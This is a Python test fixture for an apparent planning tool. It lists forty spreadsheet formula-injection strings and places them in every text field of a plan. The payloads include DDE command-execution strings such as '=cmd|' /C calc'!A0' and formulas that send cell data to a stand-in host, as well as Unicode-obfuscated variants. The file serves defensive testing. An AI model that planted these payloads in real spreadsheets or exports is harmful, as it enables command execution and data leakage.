"""Forty texts that a spreadsheet could calculate, and a plan that holds them wherever it takes words."""

from __future__ import annotations

from dataclasses import replace
from itertools import cycle

from core.examples import COUPLED
from core.inputs.decisions import Decision
from core.inputs.prices import Origin, Price
from core.issues import Invalid
from core.keys import MOST_SCENARIOS
from core.kinds import Text
from core.plan import Plan, Scenario
from core.sources import PLANNER
from tests.shorter import short

TEXTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.invalid/?"&A1,"here")',
    '=WEBSERVICE("https://example.invalid/")',
    '=IMPORTXML(CONCAT("https://example.invalid/",A1),"//a")',
    "{=1+1}",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero width space
    "\ufeff=1+1",  # byte order mark
    "\u2003\u3000@SUM(1)",  # em space, ideographic space
    "\u2060\u00ad=1+1",  # word joiner, soft hyphen
    "\u3164=1+1",  # Hangul filler, which is a letter
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '"=1+1"',
    '"=1+1","=2+2"',
    "'=1+1",
    "''=1+1",
    ";=1+1",
    "a;=cmd|' /C calc'!A0;",
    "x\n=1+1",
    "x\t=1+1",
    "\x0b\x0c=1+1",
    "\x00=1+1",
    "=1+1\n=2+2",
    "-5",
)  # fmt: skip
HARMLESS = (
    *("Arc", "a - b", "1 = 1", '5" disk', "'quoted' word", '"quoted" word', "me@home", "−5", "1,5; 2,5", "a\nb"),
    *("", " ", "Größe, Ω", "'", "'apostrophe"),
)  # fmt: skip
WORDS = Text("Words", "", "Any.", PLANNER)


def kept(text: str) -> bool:
    """Whether a plan takes a text as it is; it has no line breaks, no controls and no blanks at the ends."""
    try:
        return WORDS.check(text) == text
    except Invalid:
        return False


TAKEN = tuple(text for text in TEXTS if kept(text))


def holding(texts: tuple[str, ...]) -> Plan:
    """A plan with these texts as its title and author, as names of options, seats and scenarios, and in its lists."""
    plan = short(COUPLED)
    named = cycle(texts)
    seats = tuple(replace(plan.team[0].seats[0], name=text, role=text, reports_to="") for text in texts)
    teams = tuple(replace(team, name=next(named)) for team in plan.team)
    origins = (Origin("general.horizon", next(named), "2026-11-01", "weak"),)
    return replace(
        plan,
        general=replace(plan.general, title=next(named), author=next(named)),
        infrastructure=tuple(replace(each, name=next(named)) for each in plan.infrastructure),
        team=(replace(teams[0], seats=seats), *teams[1:]),
        architecture=tuple(replace(each, name=next(named)) for each in plan.architecture),
        money=replace(plan.money, funding=tuple(replace(each, name=next(named)) for each in plan.money.funding)),
        scenarios=tuple(Scenario(text) for text in texts[:MOST_SCENARIOS]),
        prices=tuple(Price(text, accelerator=text, source=text, price=2.5, date="2026-11-01") for text in texts),
        origins=origins,
        decisions=tuple(
            Decision(number=float(number), question=text, answer=text, rationale=text, owner=text)
            for number, text in enumerate(texts, 1)
        ),
    )
